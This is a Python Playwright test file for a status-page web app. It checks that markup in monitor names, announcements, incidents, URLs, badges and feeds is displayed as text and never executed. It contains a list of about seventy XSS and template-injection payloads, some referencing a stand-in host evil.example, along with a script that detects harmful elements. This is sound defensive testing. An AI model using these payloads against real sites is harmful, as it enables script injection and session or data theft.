"""Markup in user input is shown as text on every page in Chromium, and never executed."""

from collections.abc import AsyncIterator
from dataclasses import replace
from pathlib import Path
from typing import Any
from urllib.parse import quote, urlsplit
from xml.etree import ElementTree

import pytest
import pytest_asyncio
from playwright.async_api import Browser, Route

from kener_async.config.model import Announcement, Category, Config, Hero, Link
from kener_async.web.home import ROWS_PER_PAGE
from tests.e2e.browser import Watched, watching
from tests.rigs.service import NOON, FakeClock, Service, a_config, a_monitor, running

pytestmark = pytest.mark.browser

# Each of them would call `pwned` or ask evil.example for something, if it were more than text.
RUN = "pwned()"
EVIL = "https://evil.example"
PAYLOADS = [
    f"<script>{RUN}</script>",
    f"<SCRIPT SRC={EVIL}/a.js></SCRIPT>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<img src=x onerror={RUN}>",
    f"<img/src='x'/onerror='{RUN}'//",
    f'<IMG SRC="javascript:{RUN}">',
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    f'<svg><a xlink:href="javascript:{RUN}"><text y="20">x</text></a></svg>',
    f'<math><mi//xlink:href="data:text/html,<script>{RUN}</script>">',
    f'<math><mtext></table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">',
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f"<iframe src=javascript:parent.{RUN}></iframe>",
    f'<object data="data:text/html,<script>{RUN}</script>"></object>',
    f"<embed src={EVIL}/a.swf>",
    f"<body onload={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<form action=javascript:{RUN}><button>go</button></form>",
    f"<base href={EVIL}/>",
    f'<meta http-equiv=refresh content="0;url={EVIL}/">',
    f"<link rel=stylesheet href={EVIL}/a.css>",
    f"<style>@import '{EVIL}/b.css'; body {{ display: none }}</style>",
    f'<p style="background:url({EVIL}/c.png); width: expression({RUN})">x</p>',
    f"</title><script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"--><script>{RUN}</script><!--",
    f"<!-- <img src=x onerror={RUN}> -->",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f']]><script xmlns="http://www.w3.org/1999/xhtml">{RUN}</script>',
    f'<?xml-stylesheet href="{EVIL}/d.xsl"?>',
    f'" onmouseover="{RUN}" autofocus onfocus="{RUN}" x="',
    f"' onmouseover='{RUN}' autofocus onfocus='{RUN}' x='",
    f'"><script>{RUN}</script>',
    f"'><img src=x onerror={RUN}>",
    f"`onmouseover={RUN}",
    f"x onfocus={RUN} autofocus tabindex=0",
    f'</a><a href="javascript:{RUN}">link</a>',
    f"[link](javascript:{RUN})",
    f"[link](JaVaScRiPt:{RUN})",
    f"[link](java&#115;cript:{RUN})",
    "[link](data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+)",
    f"[link](vbscript:{RUN})",
    f'[link](https://example.org/"onmouseover="{RUN})',
    f"[link][ref]\n\n[ref]: javascript:{RUN} 'title'",
    f"![image](javascript:{RUN})",
    f"![image](data:image/svg+xml,<svg onload={RUN}>)",
    f'![image" onerror="{RUN}](http://evil.example/e.png)',
    f"<javascript:{RUN}>",
    f'<https://example.org/"onclick="{RUN}>',
    f'https://example.org/"><script>{RUN}</script>',
    f"`<script>{RUN}</script>`",
    f'```"><script>{RUN}</script>\n</code></pre><script>{RUN}</script>\n```',
    f"| a |\n|---|\n| <img src=x onerror={RUN}> |",
    "{{ 7 * 7 }} {% raw %} ${7*7} #{7*7} <%= 7*7 %>",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "%(name)s %(time)s %s {0} {name.__class__}",
    f"&lt;script&gt;{RUN}&lt;/script&gt; &#60;img src=x onerror={RUN}&#62;",
    f"\u2028<script>{RUN}</script>\u2029",
    f"<\u200bscript>{RUN}</script> \ufeff\u202e<img src=x onerror={RUN}>",
    f"\x01<script\x0b>{RUN}</script\x0c>",
    f'\\"><script>{RUN}</script>\\u003cscript>{RUN}\\u003c/script>',
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    f"}}</style><script>{RUN}</script>*{{color:red;background:url({EVIL}/f.png)}}",
    f"\\3C script\\3E {RUN}; url('{EVIL}/g.png')",
]

# What a path or an address in the configuration may hold: it is accepted, and leads to a picture.
PICTURE = f'/static/icon.svg?"onerror="{RUN}"><script>{RUN}</script>'
HOUR, DAY = 3600, 86400
AT_ONCE = 10  # payloads in the name of one category


def config(folder: Path) -> Config:
    """Payloads wherever the configuration takes text; each of them is a monitor and an announcement."""
    chunks = [PAYLOADS[place : place + AT_ONCE] for place in range(0, len(PAYLOADS), AT_ONCE)]
    categories = [Category(" ".join(chunk), "\n".join(chunk), hidden=False) for chunk in chunks]
    config = a_config(
        folder,
        *(
            a_monitor(
                f"m{place}",
                name=payload,
                description=payload,
                image=PICTURE,
                category=categories[place // AT_ONCE].name,
            )
            for place, payload in enumerate(PAYLOADS)
        ),
    )
    line, paragraphs = " ".join(PAYLOADS), "\n\n".join(PAYLOADS)
    site = replace(
        config.site,
        title=line,
        name=line,
        description=line,
        header=paragraphs,
        footer=paragraphs,
        hero=Hero(line, line, PICTURE),
        logo=PICTURE,
        favicon=PICTURE,
        home=PICTURE,
        nav=tuple(Link(payload, PICTURE, PICTURE) for payload in PAYLOADS),
        meta=tuple((f"x{place}", payload) for place, payload in enumerate(PAYLOADS)),
    )
    return replace(
        config,
        server=replace(config.server, public_url="https://status.example.org"),
        site=site,
        categories=tuple(categories),
        announcements=tuple(Announcement(one, one, "info", None, None) for one in PAYLOADS),
    )


@pytest_asyncio.fixture(scope="module", loop_scope="session")
async def marked(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[Service]:
    """A service whose every text is a payload; incidents are ongoing, planned and past in turn."""
    async with running(config(tmp_path_factory.mktemp("markup")), FakeClock()) as service:
        for place, payload in enumerate(PAYLOADS):
            tag = f"m{place}"
            await service.beat(tag, "UP" if place % 2 else "DOWN")
            spans: list[dict[str, Any]] = [
                {"startDatetime": NOON - HOUR, "impact": "DEGRADED"},
                {"startDatetime": NOON + HOUR, "endDatetime": NOON + DAY, "isMaintenance": True},
                {"startDatetime": NOON - DAY, "endDatetime": NOON - HOUR},
            ]
            await service.post(
                "/api/incident", {"title": payload, "body": payload, "tags": [tag], **spans[place % 3]}
            )
            await service.post(f"/api/incident/{place + 1}/comment", {"body": payload})
        yield service


# The pages of every kind, and of every tenth payload where there is one for each.
SOME = range(0, len(PAYLOADS), 10)
PAGES = {
    "summaries": ["/", "/incidents", "/incidents?tag=m3"],
    "monitors": [f"/monitor/m{place}" for place in SOME],
    "days": [f"/monitor/m{place}/2025-12-31" for place in SOME],
    "incidents": [f"/incident/{place + 1}" for place in SOME],
    "embeds": [f"/embed/m{place}" for place in SOME],
    "badges": [f"/badge/m{place}/{kind}" for place in SOME for kind in ("status", "uptime", "dot")],
    "feeds": ["/feed.atom", "/feed.rss", "/feed.json", "/monitor/m3/feed.atom", "/api/v2/summary.json"],
}
# What no page of ours may have, wherever it came from; but scripts, frames and styles of ours are files.
HARM = """() => {
  if (!["text/html", "image/svg+xml"].includes(document.contentType)) return [];  // shown as it is
  const isHarm = (one) => {
    const name = one.localName;
    if (name === "script" && one.type === "application/ld+json") return false;
    if (name === "script") return !`${one.src}`.startsWith(location.origin);
    if (name === "meta") return one.httpEquiv !== "";
    if (name === "style") return document.contentType !== "image/svg+xml";
    if (name === "form") return one.id !== "find";  // the filter is ours
    return ["iframe", "object", "embed", "video", "audio", "math", "foreignobject"].includes(name);
  };
  const isSet = (attribute) => attribute.name.startsWith("on") || attribute.name === "style"
    || attribute.name === "srcdoc" || /^[\\s\\0-\\x1f]*(javascript|vbscript|data):/i.test(attribute.value);
  return [...document.querySelectorAll("*")]
    .filter((one) => isHarm(one) || [...one.attributes].some(isSet))
    .map((one) => one.outerHTML.slice(0, 300));
}"""
ALARM = "window.pwned = () => console.error('a payload ran')"


@pytest_asyncio.fixture(scope="module", loop_scope="session")
async def tab(browser: Browser, marked: Service) -> AsyncIterator[Watched]:
    async with watching(browser, marked) as watched:
        await watched.page.add_init_script(ALARM)
        yield watched


@pytest.mark.parametrize("kind", PAGES)
async def test_nothing_of_it_runs_or_asks_for_anything(tab: Watched, kind: str):
    """The policy of the pages has nothing to forbid: a report of it would be a fault."""
    for path in PAGES[kind]:
        async with tab.at(path) as page:
            assert await page.evaluate(HARM) == [], path
            assert page.url == tab.origin + path
            assert len(page.context.pages) == 1


async def test_nothing_of_it_runs_in_the_page_of_a_category(tab: Watched):
    async with tab.at("/") as page:
        addresses = await page.locator("#monitors h2 a").evaluate_all("(all) => all.map((one) => one.href)")
    assert len(addresses) == len(PAYLOADS) // AT_ONCE
    for address in addresses:
        async with tab.at(address.removeprefix(tab.origin)) as page:
            assert await page.evaluate(HARM) == [], address
            assert await page.locator(".monitor").count() == AT_ONCE


@pytest.mark.parametrize(
    ("path", "status"),
    [
        ("/embed/m0?theme=%s&bgc=%s&locale=%s", 200),
        ("/badge/m0/status?label=%s&color=%s&labelColor=%s&style=%s&logo=%s", 200),
        ("/incidents?tag=%s", 404),
        ("/category/%s", 404),
        ("/incident/%s", 404),
        ("/%s", 404),
    ],
)
async def test_nothing_in_an_address_is_executed(tab: Watched, path: str, status: int):
    for payload in PAYLOADS[::5]:
        async with tab.at(path.replace("%s", quote(payload, safe="")), status) as page:
            assert await page.evaluate(HARM) == [], payload


async def test_nothing_of_it_runs_even_without_the_policy(browser: Browser, marked: Service):
    async with watching(browser, marked, bypass_csp=True) as watched:
        await watched.page.add_init_script(ALARM)
        for path in ("/", "/incidents", "/monitor/m0", "/monitor/m3/2025-12-31", "/incident/4", "/embed/m9"):
            async with watched.at(path) as page:
                assert await page.evaluate("typeof pwned") == "function"
                await page.evaluate("new Promise((done) => setTimeout(done))")


async def test_it_is_shown_as_it_was_written(tab: Watched):
    async with tab.at("/") as page:
        assert words(await page.title()) == words(" ".join(PAYLOADS))
        assert words(await page.locator(".brand").text_content()) == words(" ".join(PAYLOADS))
        for place in (".announcements h2", ".top nav li:not(:first-child)"):
            shown = await page.locator(place).all_text_contents()
            assert [words(one) for one in shown] == [words(one) for one in PAYLOADS], place
    names: list[str] = []
    for number in range(1, -(-len(PAYLOADS) // ROWS_PER_PAGE) + 1):
        async with tab.at(f"/?page={number}") as page:
            names += await page.locator(".monitor h3").all_text_contents()
            if number == 1:
                label = await page.locator("#m0 .bars").get_attribute("aria-label")
                assert label == f"{PAYLOADS[0]}, day by day"
    assert sorted(map(words, names)) == sorted(map(words, PAYLOADS))
    async with tab.at("/incidents") as page:
        titles = await page.locator("article.event h3 a").all_text_contents()
        assert all(words(one) in map(words, titles) for one in PAYLOADS)


def words(text: str | None) -> list[str]:
    return (text or "").replace("\x01", "").split()  # which is never shown


@pytest.mark.parametrize("path", ["/feed.atom", "/feed.rss", "/sitemap.xml", "/monitor/m3/feed.atom"])
async def test_what_is_xml_stays_well_formed(marked: Service, path: str):
    async with marked.client.get(path) as reply:
        root = ElementTree.fromstring(await reply.text())
    names = {one.tag.rpartition("}")[2] for one in root.iter()}
    assert names.isdisjoint({"script", "img", "svg", "iframe", "b", "p"})


async def test_a_badge_is_a_picture_whatever_its_label(marked: Service):
    for payload in PAYLOADS:
        async with marked.client.get("/badge/m0/status", params={"label": payload}) as reply:
            root = ElementTree.fromstring(await reply.text())
        names = {one.tag.rpartition("}")[2] for one in root.iter()}
        assert names <= {"svg", "title", "g", "rect", "text", "path", "clipPath", "linearGradient", "stop"}, (
            payload
        )
        assert not any(name.startswith("on") for one in root.iter() for name in one.attrib)


async def test_most_payloads_do_harm_without_escaping(browser: Browser):
    """Else nothing could be learned from their silence, or from there being no harm in a page."""
    context = await browser.new_context(bypass_csp=True)
    page, ran = await context.new_page(), set[str]()

    async def answer(route: Route) -> None:
        number = urlsplit(route.request.url).query
        raw = PAYLOADS[int(number)] if number else ""
        frames = "".join(f"<iframe src='/?{place}'></iframe>" for place in range(len(PAYLOADS)))
        body = f"<title>{raw}</title><p title=\"{raw}\" lang='{raw}'>{raw}</p>" if number else frames
        await route.fulfill(body=f"<!DOCTYPE html><meta charset=utf-8>{body}", content_type="text/html")

    await page.route("http://raw.example/**", answer)
    await page.route(f"{EVIL}/**", lambda route: route.abort())
    page.on("console", lambda said: ran.add(said.text) if "pwned" in said.text else None)
    page.on("request", lambda asked: ran.add(asked.frame.url) if asked.url.startswith(EVIL) else None)
    await page.add_init_script("window.pwned = () => console.log(`pwned ${location.href}`)")
    await page.goto("http://raw.example/")
    harmful = {frame.url for frame in page.frames[1:] if await frame.evaluate(HARM)}
    await context.close()
    assert len({text.rpartition("?")[2] for text in ran}) >= 30
    assert len({text.rpartition("?")[2] for text in ran | harmful}) >= 45
